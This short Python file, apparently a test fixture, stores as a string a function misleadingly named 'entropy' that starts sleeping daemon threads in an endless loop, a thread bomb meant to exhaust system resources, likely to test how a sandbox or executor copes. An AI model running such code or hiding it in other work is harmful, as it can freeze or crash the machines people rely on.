"""Start threads without end."""

CELL = r"""
import threading, time

def entropy(p, base=2.0):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
"""
